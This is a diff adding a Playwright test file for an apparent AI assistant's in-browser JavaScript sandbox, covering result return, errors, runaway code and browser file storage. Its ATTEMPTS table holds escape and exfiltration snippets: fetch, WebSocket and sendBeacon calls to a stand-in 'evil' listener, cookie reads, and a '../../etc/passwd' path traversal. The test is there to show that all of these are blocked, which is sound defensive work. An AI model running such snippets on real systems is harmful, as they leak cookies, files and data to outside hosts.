@@ -1,0 +1,120 @@
+"""A model's JavaScript and the browser's files: they work, and there is no way out (U4)."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+import pytest_asyncio
+from aiohttp import web
+from playwright.async_api import expect
+
+from tests.browser.stage import MARKS, Person
+
+pytestmark = MARKS
+
+
+class Listener:
+    """A server that must not hear of us."""
+
+    url = ""
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+
+    async def hear(self, request: web.Request) -> web.Response:
+        self.heard.append(str(request.rel_url))
+        return web.Response(text="heard", headers={"access-control-allow-origin": "*"})
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def evil() -> AsyncIterator[Listener]:
+    listener = Listener()
+    app = web.Application()
+    app.router.add_route("*", "/{anything:.*}", listener.hear)
+    runner = web.AppRunner(app, shutdown_timeout=0.1)
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    listener.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
+    yield listener
+    await runner.cleanup()
+
+
+async def run(person: Person, code: str) -> dict[str, Any]:
+    """What came of this code: the call, when it is settled."""
+    await person.say(f"js: {code}" if not code.startswith("play:") else code.removeprefix("play:"))
+    await person.by("run-here").last.click()
+    await expect(person.call).not_to_have_attribute("data-state", "running", timeout=25_000)
+    id = await person.call.get_attribute("data-call")
+    call: dict[str, Any] = await person.told(f"/api/calls/{id}")
+    return call
+
+
+async def test_code_runs_and_its_result_goes_back(person: Person) -> None:
+    call = await run(person, "console.log('hi'); return {answer: 6 * 7}")
+    assert call["state"] == "completed"
+    assert "42" in call["result"]["text"]
+    assert "hi" in call["result"]["text"]
+    await person.sees("Done.")
+
+
+async def test_an_error_is_a_failed_call(person: Person) -> None:
+    call = await run(person, "throw new Error('no such luck')")
+    assert call["state"] == "failed"
+    assert "no such luck" in call["result"]["text"]
+
+
+@pytest.mark.parametrize("play", ["play:endless", "play:bomb"])
+async def test_what_does_not_end_is_ended_and_the_page_lives(person: Person, play: str) -> None:
+    call = await run(person, play)
+    assert call["state"] == "failed"
+    await person.say("hello")
+    await person.sees("How can I help?")
+
+
+# `{url}` is the listener; `until` waits for one of two things to happen to what it is given.
+UNTIL = "const until = (it, on) => new Promise((ok, no) => {{ it[on] = () => ok(on); it.onerror = no }}); "
+ATTEMPTS = {
+    "fetch": "return await fetch('{url}/?fetch').then(a => a.text())",
+    "same origin": "return await fetch('/api/me').then(a => a.text())",
+    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{url}/?xhr', false); x.send(); return x.response",
+    "socket": UNTIL + "return await until(new WebSocket('{url}'.replace('http', 'ws')), 'onopen')",
+    "events": UNTIL + "return await until(new EventSource('{url}/?events'), 'onopen')",
+    "worker": UNTIL + "return await until(new Worker('{url}/w.js'), 'onmessage')",
+    "database": UNTIL + "return await until(indexedDB.open('x'), 'onsuccess')",
+    "import": "return (await import('{url}/x.js')).default",
+    "importScripts": "importScripts('{url}/?import'); return 'in'",
+    "navigate": "location.href = '{url}/?go'; await new Promise(r => setTimeout(r, 500)); throw 'still here'",
+    "parent": "return String(parent.document.cookie)",
+    "top": "top.location = '{url}/?top'; return 'moved'",
+    "storage": "localStorage.setItem('a', 'b'); return localStorage.getItem('a')",
+    "cookie": "return document.cookie",
+    "cache": "return String(await caches.open('x'))",
+    "escape path": "return await files.read('../../etc/passwd')",
+    "beacon": "return String(navigator.sendBeacon('{url}/?beacon', 'x'))",
+}
+
+
+@pytest.mark.parametrize("name", ATTEMPTS)
+async def test_there_is_no_way_out(person: Person, evil: Listener, name: str) -> None:
+    """Not to the network, not to the page, not to anything that is kept."""
+    before = person.page.url
+    call = await run(person, ATTEMPTS[name].format(url=evil.url))
+    assert evil.heard == []
+    assert call["state"] == "failed" or call["result"]["text"].strip() in ("false", '"false"'), call["result"]
+    assert person.page.url.startswith(before.rpartition("/c/")[0])
+    assert await person.page.evaluate("localStorage.getItem('a')") is None
+
+
+async def test_files_of_the_browser_are_written_listed_read_and_shown(person: Person) -> None:
+    written = await run(person, "play:write")
+    assert written["state"] == "completed"
+    listed = await run(person, "play:list")
+    assert "notes" in listed["result"]["text"]
+    read = await run(person, "play:read")
+    assert "written in the browser" in read["result"]["text"]
+    used = await run(person, "return (await files.read('notes/a.txt')).length")
+    assert "22" in used["result"]["text"]
+    await person.by("open-files").first.click()
+    await expect(person.page.locator("[data-testid=browser-file][data-path='notes/a.txt']")).to_be_visible()
